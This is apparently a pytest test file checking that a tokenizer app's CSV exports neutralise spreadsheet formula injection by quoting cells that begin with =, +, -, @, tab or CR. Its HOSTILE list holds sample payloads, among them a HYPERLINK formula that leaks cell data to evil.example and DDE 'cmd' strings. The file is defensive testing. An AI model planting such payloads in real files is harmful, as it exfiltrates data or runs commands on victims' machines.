"""Every CSV the app writes is safe to open in a spreadsheet: no text cell starts a formula.

OWASP's CSV-injection advice: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is run as a formula by spreadsheets; such a text cell gets a leading ``'``. The
hostile texts below are the issue's example and OWASP's; each writer is fed them where a user's
text goes in (a language's name and text, a tokenizer's name, a chunk's text, an identifier...).
"""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from tests.conftest import builtin
from tokenizer_core.chunking import chunk_text, chunks_to_csv
from tokenizer_core.chunking.pack import Chunk
from tokenizer_core.identifiers import analyse_identifiers, extract_identifiers, identifiers_csv
from tokenizer_core.identifiers.greedy import GreedyTokenizer
from tokenizer_core.languages import Language, language_rows_csv, parse_translations_csv, translations_csv
from tokenizer_core.languages.costs import CostRow, cost_rows_csv
from tokenizer_core.languages.language import LanguageRow
from tokenizer_core.tokenizers.csvcells import from_spreadsheet_safe, spreadsheet_safe
from tokenizer_core.workspace import CountRow, rows_to_csv

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # the language name
HOSTILE = [
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
LEADERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    """The CSV's cells as a spreadsheet reads them (header included)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(text: str) -> None:
    """No cell starts a formula; a number the app wrote (``-0.07``) is a number, no formula."""
    bad = [c for row in cells(text) for c in row if c.startswith(LEADERS) and not is_number(c)]
    assert bad == []


# ------------------------------------------------------------------ the helper


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text
    assert from_spreadsheet_safe("'" + text) == text


@pytest.mark.parametrize("cell", ["Hindi", "", "a=b", " =1", "'quoted'", "’=curly", "1.5"])
def test_other_texts_are_written_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell
    assert from_spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("number", [-0.07, -3, 0, 1.25, None, True])
def test_numbers_the_app_computed_stay_numbers(number):
    assert spreadsheet_safe(number) is number


@pytest.mark.parametrize("text", ["'=x", "''-1", "'@", "=", "-", "'", "''", "'a"])
def test_reading_back_what_was_written_gives_the_text(text):
    assert from_spreadsheet_safe(str(spreadsheet_safe(text))) == text


# ------------------------------------------------------------------ every writer


def test_languages_texts_csv_is_safe_and_reads_back_unchanged():
    langs = [
        Language(code="", name=name, script="Latin", text=name + " is a text")
        for name in [*HOSTILE[:4], "'=already quoted", "English"]
    ]
    langs.append(Language(code="", name="Lists", script="Latin", text="- one\n- two"))
    out = translations_csv(langs)
    assert_no_formula(out)
    rows = cells(out)
    assert rows[1][0] == "'" + LINK and rows[1][4] == "'" + LINK + " is a text"  # the example
    back = parse_translations_csv(out.encode("utf-8")).languages
    assert [(l.name, l.text) for l in back] == [(l.name, l.text) for l in langs]


def test_languages_full_table_csv_is_safe():
    row = LanguageRow(
        code="xx", language=LINK, script="@Script", tokenizer_id="custom", tokenizer="-evil", tokens=3,
        characters=10, utf8_bytes=10, words=2, chars_per_token=3.3333, bytes_per_token=3.3333,
        tokens_per_word=1.5, premium=1.0, base_code="xx", base_tokens=3, is_base=True,
    )  # fmt: skip
    out = language_rows_csv([row])
    assert_no_formula(out)
    assert cells(out)[1][1] == "'" + LINK


def test_cost_csv_is_safe_and_a_negative_cost_stays_a_number():
    row = CostRow(
        model="+model", provider="@provider", tokenizer_id="t", code="xx", language=LINK, premium=0.9,
        input_tokens=90.0, output_tokens=90.0, cost_per_request=0.63, monthly_cost=63.0,
        extra_vs_base=-0.07, base_code="en", as_of="2026-01-01",
    )  # fmt: skip
    out = cost_rows_csv([row])
    assert_no_formula(out)
    parsed = list(csv.DictReader(io.StringIO(out)))[0]
    assert parsed["language"] == "'" + LINK and parsed["model"] == "'+model"
    assert parsed["extra_vs_base"] == "-0.07"  # a number the app computed: no quote
    assert float(parsed["extra_vs_base"]) == -0.07


def test_count_csv_is_safe():
    row = CountRow(
        tokenizer_id="custom-1", tokenizer=LINK, tokens=2, characters=11, words=2, utf8_bytes=11,
        chars_per_token=5.5, context_window=100, context_pct=2.0,
    )  # fmt: skip
    out = rows_to_csv([row])
    assert_no_formula(out)
    assert list(csv.DictReader(io.StringIO(out)))[0]["tokenizer"] == "'" + LINK


def test_chunk_csv_is_safe():
    text = "- first item\n- second item\n\n=SUM(A1:A9)\n"
    chunks = [*chunk_text(text, builtin("cl100k_base"), strategy="recursive", size=4).chunks]
    chunks.append(Chunk(index=len(chunks), start=0, end=4, text=LINK, tokens=1, section="@top", note="+"))
    out = chunks_to_csv(chunks)
    assert_no_formula(out)
    texts = [r["text"] for r in csv.DictReader(io.StringIO(out, newline=""))]
    assert [from_spreadsheet_safe(t) for t in texts] == [c.text for c in chunks]
    assert any(t.startswith("'-") for t in texts)


def test_identifier_csv_is_safe():
    code = "def calculate_total(items):\n    return items\n"
    an = analyse_identifiers(code, [GreedyTokenizer()], extraction=extract_identifiers(code, "python"))
    rows = tuple(dataclasses.replace(r, name=LINK, words=("-x",), where="@file") for r in an.rows)
    out = identifiers_csv(dataclasses.replace(an, rows=rows, tokenizer_ids=("=evil",)))
    assert_no_formula(out)
    parsed = cells(out)
    assert parsed[1][0] == "'" + LINK
    assert "'=evil tokens" in parsed[0]
